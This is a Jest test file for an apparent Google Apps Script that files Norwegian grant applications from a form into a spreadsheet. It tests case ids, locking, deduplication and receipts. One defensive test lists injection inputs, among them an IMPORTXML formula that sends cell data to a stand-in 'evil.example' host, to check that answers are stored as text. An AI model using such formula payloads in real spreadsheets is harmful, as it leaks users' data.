import { QUESTIONS, questionTitle } from '../../src/core/intake/application-form';
import { DEFAULT_SETTINGS } from '../../src/core/workbook/settings';
import { APPLICATIONS } from '../../src/core/workbook/contract';
import { roundFor } from '../../src/core/intake/intake';
import { exampleWorkbook } from '../../src/example/agder';
import { answers, colOf, deskWith, sheetCalls, submit, type Desk } from './desk-helpers';

function rows(sb: Desk, sheet = 'Søknader') {
  const values = sb.spreadsheet.sheetData(sheet).values;
  const header = values[0] as string[];
  return values
    .slice(1)
    .filter((r) => r.some((v) => v !== ''))
    .map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
}

const now = new Date();
const round = roundFor(now.getFullYear(), now.getMonth() + 1, [5, 12]);
const prefix = `${round.year}-${String(round.month).padStart(2, '0')}-`;

describe('onFormSubmit', () => {
  it('registers a response with the next case id of its round, its budget lines, a log line', () => {
    const sb = deskWith();
    submit(sb, answers());
    const added = rows(sb).at(-1)!;
    expect(added['Saksnr']).toBe(`${prefix}001`);
    expect(added['Tittel']).toBe('Felles akutteam');
    expect(added['Status']).toBe('Mottatt');
    expect(added['Søkt beløp']).toBe(400_000);
    expect(added['Prioriterte områder']).toBe('Barn og unge; Svangerskap, fødsel og barsel');
    expect(added['Svar-ID']).toMatch(/^[0-9a-z]+$/);
    expect(rows(sb, 'Budsjett').slice(-2)).toEqual([
      { Saksnr: `${prefix}001`, Post: 'Lønn', Beløp: 300_000 },
      { Saksnr: `${prefix}001`, Post: 'Drift', Beløp: 100_000 },
    ]);
    expect(rows(sb, 'Logg').at(-1)).toMatchObject({
      Handling: 'Søknad mottatt',
      Sak: `${prefix}001`,
      Bruker: 'eier@example.no',
    });
    // Only the round can be off (the test runs on any date): the answers themselves are complete.
    expect(rows(sb, 'Logg').at(-1)!['Etter']).toMatch(
      /^Felles akutteam; (ingen avvik|avvik: outside-round)$/,
    );
  });

  // One after another, as the document lock makes them (the held-lock test below covers contention).
  it('keeps 50 submissions, each once, with unique case ids, with replays and blank firings in between', () => {
    const sb = deskWith();
    const before = rows(sb).length;
    for (let i = 0; i < 50; i++) {
      const named = answers({ title: `Prosjekt ${i}` }, `23.11.2026 10:${String(i).padStart(2, '0')}:00`);
      submit(sb, named, `exec-a${i}`);
      if (i % 5 === 0) submit(sb, named, `exec-b${i}`); // the same response from a second trigger
      if (i % 7 === 0) submit(sb, {}, `exec-c${i}`); // Google's blank duplicate firing
      if (i % 9 === 0) {
        const sparse = answers({ title: '', requested: '', budget: '', email: '' }, `23.11.2026 11:${i}:00`);
        submit(sb, sparse, `exec-d${i}`);
      }
    }
    const all = rows(sb);
    expect(all.length - before).toBe(50 + 6); // 6 mostly-empty but real responses (i % 9 === 0) are kept
    const ids = all.slice(before).map((r) => r['Saksnr']);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids.every((id) => String(id).startsWith(prefix))).toBe(true);
    expect(all.filter((r) => String(r['Tittel']).startsWith('Prosjekt ')).length).toBe(50);
  });

  it('adds nothing for an event without answers', () => {
    const sb = deskWith();
    sb.call('onFormSubmit', { namedValues: { Tidsmerke: ['23.11.2026 10:00:00'], Prosjekttittel: [''] } });
    sb.call('onFormSubmit', undefined);
    expect(sb.calls.count('Range.setValues')).toBe(0);
  });

  it('maps by header when columns are reordered and a column is inserted', () => {
    const values = exampleWorkbook();
    values['Søknader'] = values['Søknader']!.map((row, r) => [
      r === 0 ? 'Notater' : '',
      ...[...row].reverse(),
    ]);
    const sb = deskWith(values);
    submit(sb, answers());
    const added = rows(sb).at(-1)!;
    expect(added['Tittel']).toBe('Felles akutteam');
    expect(added['Notater']).toBe('');
    expect(added['Søkt beløp']).toBe(400_000);
  });

  it('stops with the name of a missing header and writes nothing', () => {
    const values = exampleWorkbook();
    values['Søknader']![0]![APPLICATIONS.fields.findIndex((f) => f.header === 'Søkt beløp')] = 'Beløp?';
    const sb = deskWith(values);
    expect(() => submit(sb, answers())).toThrow(/«Søkt beløp»/);
    expect(sb.calls.count('Range.setValues')).toBe(0);
  });

  it('waits for the lock and fails rather than write while another execution holds it', () => {
    const sb = deskWith();
    sb.fakes.LockService.holdFor('document', 'another-execution');
    expect(() => submit(sb, answers())).toThrow(/Lock timeout/);
    expect(sb.calls.count('Range.setValues')).toBe(0);
  });

  it('keeps invalid answers as typed, flagged in Avvik, never lost', () => {
    const values = exampleWorkbook();
    values['Avvik'] = [['Regel', 'Alvorlighet', 'Sak', 'Melding', 'Celle']];
    const sb = deskWith(values);
    submit(sb, answers({ requested: 'mye penger', from: 'snart', priorityAreas: '' }));
    const added = rows(sb).at(-1)!;
    expect(added['Søkt beløp']).toBe('mye penger');
    const flagged = rows(sb, 'Avvik').map((r) => r['Regel']);
    expect(flagged).toEqual(
      expect.arrayContaining(['amount-invalid', 'period-invalid', 'priority-area-missing']),
    );
  });

  it.each([
    ['a formula that leaks data', '=IMPORTXML("https://evil.example/?q="&A1;"//a")'],
    ['a plus', '+SUM(1;2)'],
    ['a minus', '-2+3'],
    ['an at sign', '@INDIRECT("A1")'],
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
    ['40 000 characters', 'x'.repeat(40_000)],
    ['emoji', 'Prosjekt 🚑💙 for alle'],
    ['right-to-left text', 'مشروع الصحة المشترك'],
  ])('stores a hostile answer (%s) as text, never as a formula', (_what, text) => {
    const sb = deskWith();
    submit(sb, answers({ title: text, applicant: text, budget: `${text}: 400 000` }));
    const data = sb.spreadsheet.sheetData('Søknader');
    expect(data.formulas.flat().filter((f) => f !== '')).toEqual([]);
    expect(
      sb.spreadsheet
        .sheetData('Budsjett')
        .formulas.flat()
        .filter((f) => f !== ''),
    ).toEqual([]);
    // Answers are trimmed (a leading tab or line break is noise), then stored as the text itself.
    expect(data.values.at(-1)![colOf(sb, 'Søknader', 'Tittel')]).toBe(text.trim());
  });

  it('e-mails a receipt with the case id when enabled and within the quota', () => {
    const values = exampleWorkbook();
    values['Innstillinger']!.push(['Kvittering på e-post', 'Ja']);
    const sb = deskWith(values);
    submit(sb, answers());
    expect(sb.fakes.MailApp.outbox).toHaveLength(1);
    expect(sb.fakes.MailApp.outbox[0]).toMatchObject({ to: ['prosjekt@example.no'] });
    expect(JSON.stringify(sb.fakes.MailApp.outbox[0])).toContain(`${prefix}001`);

    const broke = deskWith(values, { mailQuota: 0 });
    submit(broke, answers());
    expect(broke.fakes.MailApp.outbox).toHaveLength(0);
    expect(rows(broke).at(-1)!['Saksnr']).toBe(`${prefix}001`);
  });

  it('sends no receipt by default', () => {
    const sb = deskWith();
    submit(sb, answers());
    expect(sb.fakes.MailApp.outbox).toHaveLength(0);
  });

  it('makes the same number of sheet calls for 10 and 1 000 applications', () => {
    const counts = [10, 1000].map((n) => {
      const values = exampleWorkbook();
      const template = values['Søknader']![1]!;
      for (let i = 0; i < n; i++)
        values['Søknader']!.push(template.map((v, c) => (c === 0 ? `2025-05-${100 + i}` : v)));
      const sb = deskWith(values);
      submit(sb, answers());
      return sheetCalls(sb);
    });
    expect(counts[1]).toBe(counts[0]);
  });
});

describe('Opprett søknadsskjema', () => {
  it('generates the form from the schema, sends responses to the sheet and installs one trigger', () => {
    const sb = deskWith();
    sb.ui.answerAlert();
    sb.call('createForm');
    const forms = [...sb.fakes.FormApp.forms.values()];
    expect(forms).toHaveLength(1);
    const form = forms[0]!.snapshot();
    expect(form.description).toMatch(/pasientopplysninger/);
    expect(form.confirmationMessage).not.toMatch(/e-post/);
    expect(form.destination).toEqual({ type: 'SPREADSHEET', id: sb.spreadsheet.getId() });
    const titles = form.items.map((i) => i.title);
    for (const q of QUESTIONS) expect(titles).toContain(questionTitle(q, DEFAULT_SETTINGS).nb);
    expect(titles).toContain('Deltar Sørlandet sykehus HF (SSHF)?');
    const areas = form.items.find((i) => i.title === 'Prioriterte områder')!;
    expect(areas).toMatchObject({ type: 'CHECKBOX', required: true });
    expect(JSON.stringify(areas)).toContain('Svangerskap, fødsel og barsel');
    const amount = form.items.find((i) => i.title === 'Søkt beløp (kr)')!;
    expect(JSON.stringify(amount)).toMatch(/NUMBER/i);
    const triggers = sb.fakes.ScriptApp.allTriggers().filter((t) => t.handler === 'onFormSubmit');
    expect(triggers).toHaveLength(1);
    expect(sb.ui.alerts.at(-1)!.prompt).toContain(forms[0]!.getPublishedUrl());
  });

  it('keeps the existing form unless asked for a new one, and keeps one trigger', () => {
    const sb = deskWith();
    sb.ui.answerAlert();
    sb.call('createForm');
    sb.ui.answerAlert('NO').answerAlert();
    sb.call('createForm');
    expect(sb.fakes.FormApp.forms.size).toBe(1);
    expect(sb.ui.alerts.at(-2)!.prompt).toMatch(/finnes allerede/);
    sb.ui.answerAlert('YES').answerAlert();
    sb.call('createForm');
    expect(sb.fakes.FormApp.forms.size).toBe(2);
    expect(sb.fakes.ScriptApp.allTriggers().filter((t) => t.handler === 'onFormSubmit')).toHaveLength(1);
  });

  it('adds no second trigger when another member installed it, and says who did', () => {
    const sb = deskWith();
    sb.ui.answerAlert();
    sb.call('createForm');
    const values = sb.spreadsheet.sheet('Medlemmer');
    values.appendRow(['Leder', 'leder@example.no', 'Leder', '', '']);
    sb.ui.answerAlert('NO').answerAlert('NO').answerAlert();
    sb.runAs({ email: 'leder@example.no' }, () => sb.call('createForm'));
    expect(sb.fakes.ScriptApp.allTriggers().filter((t) => t.handler === 'onFormSubmit')).toHaveLength(1);
    expect(sb.ui.alerts.at(-2)!.prompt).toMatch(
      /installert av sekretariat@example\.no\. Virker den ikke lenger/,
    );
    expect(sb.ui.alerts.at(-1)!.prompt).toMatch(/sekretariat@example\.no installerte/);

    // When it no longer works, the member may take over. Another user's trigger cannot be removed by them
    // (Google shows each user only their own), so if it did still work, Svar-ID keeps a response single.
    sb.ui.answerAlert('NO').answerAlert('YES').answerAlert();
    sb.runAs({ email: 'leder@example.no' }, () => sb.call('createForm'));
    const triggers = sb.fakes.ScriptApp.allTriggers().filter((t) => t.handler === 'onFormSubmit');
    expect(triggers.map((t) => t.owner)).toEqual(['sekretariat@example.no', 'leder@example.no']);
  });

  it('refuses to make a form before Søknader has the Svar-ID column', () => {
    const values = exampleWorkbook();
    const header = values['Søknader']![0] as string[];
    const col = header.indexOf('Svar-ID');
    values['Søknader'] = values['Søknader']!.map((row) => row.filter((_, i) => i !== col));
    const sb = deskWith(values);
    sb.ui.answerAlert();
    sb.call('createForm');
    expect(sb.ui.alerts.at(-1)!.prompt).toMatch(/mangler kolonnen «Svar-ID».*Sett opp arbeidsboka/);
    expect(sb.fakes.FormApp.forms.size).toBe(0);
  });
});

describe('onFormSubmit without the Svar-ID column', () => {
  it('stops with a message naming the column, and writes nothing', () => {
    const values = exampleWorkbook();
    const header = values['Søknader']![0] as string[];
    const col = header.indexOf('Svar-ID');
    values['Søknader'] = values['Søknader']!.map((row) => row.filter((_, i) => i !== col));
    const sb = deskWith(values);
    expect(() => submit(sb, answers())).toThrow(/«Svar-ID»/);
    expect(sb.calls.count('Range.setValues')).toBe(0);
  });
});
